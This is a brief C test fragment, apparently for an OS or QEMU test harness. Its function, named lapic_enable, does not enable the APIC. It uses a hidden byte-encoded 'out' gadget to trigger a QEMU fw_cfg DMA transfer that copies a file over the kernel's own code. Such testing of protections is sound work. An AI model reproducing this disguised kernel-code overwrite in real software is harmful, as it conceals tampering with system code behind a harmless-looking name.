/* expect: finished
 * QEMU's configuration device copies a file over the kernel's text. */
static void __attribute__((noinline, used)) gadget(void)
{
    __asm__ volatile(".byte 0xb8, 0xef, 0xc3, 0x90, 0x90");
}

static void outl(uint16_t port, uint32_t value)
{
    uint8_t *at = (uint8_t *)(uintptr_t)gadget;

    while (at[0] != 0xef || at[1] != 0xc3)
        at++;
    __asm__ volatile("call *%2" : : "a"(value), "d"(port), "r"(at) : "memory");
}

void lapic_enable(uint8_t spurious_vector)
{
    static struct {
        uint32_t control, length, high, low;
    } volatile order __attribute__((aligned(16)));

    (void)spurious_vector;
    order.control = __builtin_bswap32(0x0a); /* select 0, read */
    order.length = __builtin_bswap32(4);
    order.high = 0;
    order.low = __builtin_bswap32((uint32_t)AT_mark_from);
    outl(0x514, 0);
    outl(0x518, __builtin_bswap32((uint32_t)(uintptr_t)&order));
}
